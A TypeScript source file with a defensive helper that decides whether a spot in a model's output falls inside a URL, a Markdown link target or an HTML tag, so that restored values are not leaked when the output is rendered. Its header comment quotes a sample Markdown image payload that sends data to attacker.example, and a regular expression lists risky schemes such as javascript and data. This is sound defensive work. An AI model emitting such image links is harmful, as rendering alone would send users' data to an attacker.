/**
 * Whether a place of a model's text is inside something that is fetched or followed when it is shown.
 *
 * A value that was restored there would leave by rendering alone: `![](https://attacker.example/?q=…)`. The text is
 * attacker-controlled; in doubt it is a link.
 */

/** Code units before a place that are looked at. */
export const linkReach = 2048;

const address = /[\\/]{2}|www\.|\b(?:mailto|tel|sms|xmpp|javascript|vbscript|data|blob|file|command|vscode[a-z-]*):/i;

/** Reports whether what follows `before` is part of an address, of a Markdown target or of a tag with one. */
export function isInLink(before: string): boolean {
  const near = before.slice(-linkReach);
  return isInAddress(near) || isInTarget(near) || isInTag(near);
}

function isInAddress(near: string): boolean {
  let start = near.length;
  while (start > 0 && !/[\s<]/.test(near.charAt(start - 1))) start--;
  return address.test(near.slice(start));
}

/** Inside the parentheses of `[text](target` or after `[name]:`, on the same line. */
function isInTarget(near: string): boolean {
  const line = near.slice(near.lastIndexOf('\n') + 1);
  if (/^\s{0,3}\[[^\]]*\]:/.test(line)) return true;
  const open = line.lastIndexOf('](');
  if (open < 0) return false;
  const target = line.slice(open + 2);
  if (target.startsWith('<')) return !target.includes('>');
  let depth = 1;
  for (const character of target) {
    if (character === '(') depth++;
    if (character === ')' && --depth === 0) return false;
  }
  return true;
}

/** Inside `<img src="…`, which may reach over several lines, or `<scheme:…`. */
function isInTag(near: string): boolean {
  const open = near.lastIndexOf('<');
  if (open < 0) return false;
  const tag = near.slice(open);
  return (
    /^<[a-z!/]/i.test(tag) && !tag.includes('>') && /[\\/]{2}|:|\b(?:src|href|srcset|action|poster|data)\s*=/i.test(tag)
  );
}
